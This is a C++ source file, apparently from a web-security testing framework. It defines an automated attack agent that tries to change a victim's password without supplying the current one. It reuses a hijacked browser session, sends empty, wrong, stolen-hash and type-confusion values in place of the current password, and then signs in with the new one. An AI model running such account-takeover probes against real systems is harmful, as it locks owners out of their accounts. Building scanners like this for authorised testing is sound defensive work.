// change-without-current: somebody left a browser open. Its session is enough to look around; it
// must not be enough to lock its owner out. Sets a new password without the current one, with a
// wrong one, or with what a stolen table holds in its place, and signs in with it.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/impostor.h"
#include "core/attack/options.h"
#include "core/attack/session.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kHash = 16;  // characters at least

class ChangeWithoutCurrent final : public Agent {
    void run(Target& target) override {
        Impostor impostor(target);
        Endpoint const* change = endpoint_option(target, option::kChange, "password");
        if (!impostor.can_try() || change == nullptr || target.surface().usernames.empty()) return;
        std::string const victim = target.surface().usernames.front();
        // One password for all that he sends: hashes of it are known by now.
        std::string const own = target.surface().attacker.password;
        std::size_t const next = parameter(*change, "n"), current = parameter(*change, "current");
        if (next == change->parameters.size() || current == change->parameters.size()) return;
        std::string const kept = kept_of(target, victim);
        for (auto const& [value, dress] : {std::pair{"", Dress::Missing},
                                           {kept.c_str(), Dress::Plain},
                                           {"", Dress::Plain},
                                           {own.c_str(), Dress::Plain},
                                           {"null", Dress::Raw},
                                           {"true", Dress::Raw},
                                           {"[]", Dress::Raw},
                                           {"{}", Dress::Raw}}) {
            target.inside()->borrow_browser(target.option(option::kBrowser));
            std::vector<std::string> values = samples(*change);
            values[next] = own;
            target.send(write_request(*change, values, {current, value, dress}));
            if (impostor.try_password(victim, own)) {
                target.note("The owner's password was replaced without being asked for.");
                return;
            }
        }
    }

    // The longest text of his row in a stolen table: where there is a hash, it is that.
    static std::string kept_of(Target& target, std::string const& victim) {
        std::string longest;
        for (StolenTable const& table : target.inside()->steal_database())
            for (auto const& row : table.rows) {
                if (std::find(row.begin(), row.end(), victim) == row.end()) continue;
                for (std::string const& cell : row)
                    if (cell.size() >= kHash && cell.size() > longest.size() && cell != victim &&
                        cell.find(' ') == std::string::npos)
                        longest = cell;
            }
        return longest;
    }

    static std::size_t parameter(Endpoint const& endpoint, std::string_view start) {
        std::size_t i = 0;
        while (i < endpoint.parameters.size() && !endpoint.parameters[i].name.starts_with(start))
            ++i;
        return i;
    }
};

}  // namespace

std::unique_ptr<Agent> make_change_without_current() {
    return std::make_unique<ChangeWithoutCurrent>();
}

}  // namespace parapet::attack
